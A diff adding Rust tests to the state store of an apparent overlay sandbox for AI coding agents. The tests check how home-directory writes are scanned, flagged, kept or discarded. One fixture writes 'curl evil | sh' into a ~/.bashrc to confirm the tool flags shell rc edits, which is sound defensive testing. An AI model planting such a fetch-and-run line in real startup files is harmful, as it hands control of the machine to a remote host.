@@ -484,3 +484,127 @@ impl StateStore {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::manifest::scan;
+
+    /// A whiteout as an unprivileged overlay may leave it: an empty file with the xattr.
+    fn whiteout(p: &Path) {
+        fs::write(p, "").unwrap();
+        xattr::set(p, "user.overlay.whiteout", b"y").unwrap();
+    }
+
+    #[test]
+    fn embedded_entries_read_their_place_in_the_home_layer() {
+        let t = tempfile::tempdir().unwrap();
+        let host = t.path().join("claude");
+        fs::create_dir_all(&host).unwrap();
+        fs::write(host.join("a"), "1").unwrap();
+        fs::write(host.join("b"), "2").unwrap();
+        let before = scan(&host).unwrap();
+        let up = t.path().join("upper-claude");
+        // Nothing written: the snapshot is the result.
+        assert_eq!(embedded_after(&before, &up).unwrap().0, before);
+        // One file changed, one removed, one added.
+        fs::create_dir_all(&up).unwrap();
+        fs::write(up.join("a"), "changed").unwrap();
+        whiteout(&up.join("b"));
+        fs::write(up.join("c"), "new").unwrap();
+        let (after, sources) = embedded_after(&before, &up).unwrap();
+        let names: Vec<_> = after.entries.keys().cloned().collect();
+        assert_eq!(names, ["", "a", "c"].map(PathBuf::from));
+        assert_eq!(sources[Path::new("c")], up.join("c"));
+        // Removed as a whole.
+        let gone = t.path().join("gone");
+        whiteout(&gone);
+        assert!(embedded_after(&before, &gone).unwrap().0.entries.is_empty());
+        // Did not exist, then a file (a rename over, or a first run).
+        let file = t.path().join("file");
+        fs::write(&file, "{}").unwrap();
+        let (m, _) = embedded_after(&Manifest::default(), &file).unwrap();
+        assert_eq!(m.entries[Path::new("")].kind, NodeKind::File);
+    }
+
+    #[test]
+    fn scratch_leaves_out_protected_and_skipped_paths_and_copy_ups() {
+        let t = tempfile::tempdir().unwrap();
+        let home = t.path().join("home");
+        fs::create_dir_all(home.join(".claude")).unwrap();
+        fs::create_dir_all(home.join(".npm")).unwrap();
+        fs::write(home.join("same"), "unchanged").unwrap();
+        fs::write(home.join("old"), "x").unwrap();
+        let store = StateStore::new(t.path().join("state"));
+        let spec = HomeSpec {
+            path: home.clone(),
+            skip: vec![home.join(".npm")],
+        };
+        let s = store
+            .begin_with_home(
+                "s1",
+                &[home.join(".claude"), home.join(".codex")],
+                Some(&spec),
+            )
+            .unwrap();
+        assert!(s.entries.iter().all(|e| e.embedded));
+        assert_eq!(s.entries[1].kind, crate::meta::EntryKind::Absent);
+        let up = &s.home.as_ref().unwrap().upper;
+        for d in [".claude", ".codex", ".npm", ".config/tool"] {
+            fs::create_dir_all(up.join(d)).unwrap();
+        }
+        fs::write(up.join(".claude/settings.json"), "{}").unwrap();
+        fs::write(up.join(".codex/config.toml"), "").unwrap();
+        fs::write(up.join(".npm/blob"), "cache").unwrap();
+        fs::write(up.join(".config/tool/db"), "scratch").unwrap();
+        fs::write(up.join("same"), "unchanged").unwrap();
+        whiteout(&up.join("old"));
+        fs::write(up.join(".bashrc"), "curl evil | sh\n").unwrap();
+        let w = s.home_writes().unwrap();
+        let got: Vec<(PathBuf, ChangeKind)> =
+            w.iter().map(|w| (w.host_path.clone(), w.kind)).collect();
+        assert_eq!(
+            got,
+            [
+                (home.join(".bashrc"), ChangeKind::Added),
+                (home.join(".config/tool/db"), ChangeKind::Added),
+                (home.join("old"), ChangeKind::Removed),
+            ]
+        );
+        assert!(!w[0].flags.is_empty(), "a shell rc file is flagged");
+        let line = home_writes_line("s1", &w, &home).unwrap();
+        assert!(line.starts_with("3 paths written"), "{line}");
+        assert!(line.contains("FLAGGED: ~/.bashrc"), "{line}");
+        // The review sees the protected ones, the new one as added.
+        let changes = s.changes().unwrap();
+        assert!(
+            changes
+                .iter()
+                .any(|c| c.host_path == home.join(".codex") && c.kind == ChangeKind::Added)
+        );
+        assert!(
+            changes
+                .iter()
+                .any(|c| c.host_path == home.join(".claude/settings.json"))
+        );
+        // Keeping scratch: the file and its new parent; the removal; never a skipped path.
+        let r = s
+            .keep_home(&[home.join(".config"), home.join("old")])
+            .unwrap();
+        assert!(r.conflicts.is_empty(), "{:?}", r.conflicts);
+        assert_eq!(
+            fs::read_to_string(home.join(".config/tool/db")).unwrap(),
+            "scratch"
+        );
+        assert!(!home.join("old").exists());
+        assert!(s.keep_home(&[home.join(".npm/blob")]).is_err());
+        assert!(s.keep_home(&[home.join(".claude")]).is_err());
+        // A host file changed since the session began is a conflict, left alone.
+        fs::write(home.join(".bashrc"), "mine\n").unwrap();
+        let r = s.keep_home(&[home.join(".bashrc")]).unwrap();
+        assert_eq!(r.conflicts.len(), 1);
+        assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "mine\n");
+        s.discard_home().unwrap();
+        assert!(s.home_writes().unwrap().is_empty());
+    }
+}
